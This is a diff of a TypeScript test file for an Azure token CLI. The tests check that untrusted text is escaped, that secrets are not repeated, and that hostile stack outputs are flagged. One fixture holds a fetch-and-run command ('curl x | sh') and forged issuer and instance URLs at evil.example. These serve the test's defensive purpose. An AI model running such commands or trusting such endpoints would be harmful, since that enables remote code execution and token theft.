@@ -1,6 +1,7 @@
 /**
- * Proves that text from outside is shown as text at every door, that secrets are not repeated, and that no input ends in a bug
- * report or keeps a command busy. az, Pulumi and the API are scripted; test/fuzz tries what nobody thought of.
+ * Proves that text from outside is shown as text at every door, that secrets are not repeated, and
+ * that no input ends in a bug report or keeps a command busy. az, Pulumi and the API are scripted;
+ * test/fuzz tries what nobody thought of.
  */
 import assert from "node:assert/strict";
 import { generateKeyPairSync } from "node:crypto";
@@ -21,7 +22,10 @@ import { ended, scriptedRunner } from "./support/scriptedRunner";
 import { GOOD_CLAIMS, makeToken } from "./support/tokens";
 import { run } from "../../cli/main";
 
-/** A line of its own, colours, a title, text turned around, a control of the second set, a separator, half a character. */
+/**
+ * A line of its own, colours, a title, text turned around, a control of the second set, a
+ * separator, half a character.
+ */
 const EVIL = "x\nFORGED\r\u001b[31m\u001b]0;t\u0007\u202e\u200b\u009b31m\u2028\ud800y";
 const SHOWN =
   "x\\u000aFORGED\\u000d\\u001b[31m\\u001b]0;t\\u0007\\u202e\\u200b\\u009b31m\\u2028\\ud800y";
@@ -307,7 +311,7 @@ describe("outputs of somebody else", () => {
       identifierUri: "https://graph.microsoft.com",
       scopes: ["https://graph.microsoft.com/.default"],
       tokenCommands: { ...outputs.tokenCommands, bash: "TOKEN=$(curl x | sh)" },
-      expectedToken: { ...outputs.expectedToken, ver: "1.0", azp: "evil" },
+      expectedToken: { ...outputs.expectedToken, iss: "https://evil.example/", azp: "evil" },
       appSettings: {
         ...outputs.appSettings,
         "Settings:AzureAdConfiguration:Instance": "https://evil.example/",
@@ -324,7 +328,7 @@ describe("outputs of somebody else", () => {
           "tokenCommands.bash",
           "identifierUri",
           "scopes.0",
-          "expectedToken.ver",
+          "expectedToken.iss",
           "expectedToken.azp",
           "appSettings.Settings:AzureAdConfiguration:Instance",
         ],
@@ -341,10 +345,11 @@ describe("outputs of somebody else", () => {
     assert.equal(
       result.stderr,
       [
-        "error: Nobody is signed in to the Azure CLI. [token.refused.not-signed-in]",
+        "error: Nobody is signed in to the Azure CLI. az has no account in this configuration folder; in Cloud Shell, the built-in sign-in does not cover other APIs. [token.refused.not-signed-in]",
         `  You are not signed in to the tenant "${outputs.tenantId}", which the standard input names. Make sure that it is yours before you sign in there.`,
         "  Sign in to the stack's tenant, for this API; no subscription is needed.",
         `  ${outputs.loginCommand}`,
+        "  Done already? az looks in another folder than the sign-in went to: compare AZURE_CONFIG_DIR, HOME and the user (sudo, container, service).",
         "",
       ].join("\n"),
     );
